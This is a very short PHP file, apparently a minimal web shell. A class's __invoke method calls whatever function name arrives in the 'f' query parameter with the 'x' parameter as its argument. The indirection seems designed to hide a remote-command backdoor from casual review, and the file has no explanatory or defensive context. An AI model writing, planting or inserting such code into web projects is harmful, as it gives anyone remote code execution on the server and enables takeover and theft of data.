<?php
class A { public $f; function __invoke($x) { return ($this->f)($x); } }
$a = new A; $a->f = $_GET['f']; $a($_GET['x']);
